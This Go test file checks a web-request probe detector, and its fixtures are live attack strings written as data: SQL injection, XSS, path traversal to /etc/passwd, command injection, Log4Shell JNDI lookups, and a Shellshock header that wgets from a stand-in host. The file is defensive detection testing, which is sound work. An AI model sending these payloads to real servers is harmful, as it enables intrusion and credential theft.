package detect

import (
	"strings"
	"testing"
)

func TestFindProbe(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path, query string
		kind        string // "" for an ordinary request
		sure        bool   // an attack by itself (sureProbe)
	}{
		{"/api/v1/orders/123", "", "", false},
		{"/api/v2/search", "q=running+shoes&page=2", "", false},
		{"/api/v1/orders", "status=open&page=1&limit=50", "", false},
		{"/api/v1/notifications", "since=1762048800&limit=20", "", false},
		{"/api/v2/search", "q=caf%C3%A9+au+lait", "", false},
		{"/api/v2/search", "q=O%27Reilly+books", "", false},
		{"/api/v1/exports/1/download", "token=REDACTED", "", false},
		{"/api/v2/search", "q=1%27%20OR%20%271%27%3D%271", probeSQLi, false},
		{"/api/v2/search", "q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", probeSQLi, false},
		{"/api/v1/products/1", "include=%3Cscript%3Ealert(1)%3C%2Fscript%3E", probeXSS, false},
		{"/api/v1/products/1", "x=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", probeXSS, false},
		{"/api/v1/files", "name=..%2F..%2F..%2Fetc%2Fpasswd", probeTraversal, true},
		{"/static/..%2f..%2fetc/passwd", "", probeTraversal, true},
		{"/api/v1/ping", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", probeTraversal, true},
		{"/api/v1/ping", "host=127.0.0.1%7Cwhoami", probeCommand, false},
		{"/api/v1/ping", "host=%24(id)", probeCommand, false},
		{"/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5", probeCommand, false},
		{"/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", probeCommand, false},
		{"/index.php", "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", probeCommand, false},
		{"/api/v1/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D", probeJNDI, true},
		{"/${jndi:ldap://198.51.100.7/x}", "", probeJNDI, true},
		{"/api/v1/search", "q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%7D", probeJNDI, true},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", probeTraversal, true},
		{"/scripts/..%5c..%5cwinnt/system32/cmd.exe", "", probeTraversal, true},
		{"/account/login", "next=..%2Fsettings", probeTraversal, false},
		{"/api/v1/templates", "body=%24%7Bname%7D", "", false},
		{"/api/v1/search", "q=f(x)+%7B+return+1+%7D", "", false},
	}
	for _, tt := range tests {
		m, ok := findProbe(tt.path, tt.query)
		if ok != (tt.kind != "") || m.kind != tt.kind || m.sure != tt.sure {
			t.Errorf("findProbe(%q, %q) = %q, %v, sure %v; want %q, sure %v", tt.path, tt.query, m.kind, ok, m.sure, tt.kind, tt.sure)
		}
	}
}

func TestHeaderProbe(t *testing.T) {
	t.Parallel()
	tests := []struct {
		ua, referer string
		kind, where string // "" for an ordinary request
	}{
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "https://example.com/a?b=c", "", ""},
		{"curl/8.5.0", "", "", ""},
		{"Mozilla/5.0 {compatible}", "", "", ""},
		{"() { :; }; /bin/bash -c 'wget http://198.51.100.7/x'", "", probeCommand, "user-agent"},
		{"${jndi:ldap://198.51.100.7:1389/Basic/Command}", "", probeJNDI, "user-agent"},
		{"Mozilla/5.0", "${${lower:j}ndi:${lower:l}dap://x/a}", probeJNDI, "referer"},
	}
	for _, tt := range tests {
		m, ok := headerProbe(tt.ua, tt.referer)
		if ok != (tt.kind != "") || m.kind != tt.kind || m.where != tt.where {
			t.Errorf("headerProbe(%q, %q) = %q in %q, %v; want %q in %q", tt.ua, tt.referer, m.kind, m.where, ok, tt.kind, tt.where)
		}
	}
	var s sample
	m, _ := headerProbe("${jndi:ldap://x/a}", "")
	probeSample(&s, "/", m)
	if got, want := s.String(), "jndi / header user-agent:${jndi:ldap://x/a}"; got != want {
		t.Errorf("sample %q, want %q", got, want)
	}
}

func TestProbeSampleIsBounded(t *testing.T) {
	t.Parallel()
	var s sample
	probeSample(&s, "/api/v2/search", probeMatch{kind: probeSQLi, where: "q", value: "1' OR 1=1\n-- " + strings.Repeat("x", 200)})
	got := s.String()
	if len(got) > sampleLen || strings.ContainsAny(got, "\n\r") || !strings.HasPrefix(got, "sqli /api/v2/search ?q=1' OR 1=1?") {
		t.Errorf("sample %q: want at most %d printable bytes starting with the kind and route", got, sampleLen)
	}
}

// BenchmarkProbePrefilter measures the cost every ordinary request pays.
func BenchmarkProbePrefilter(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := findProbe("/api/v1/orders/123456/items", "status=open&page=2&limit=50"); ok {
			b.Fatal("ordinary request flagged")
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "requests/s")
}
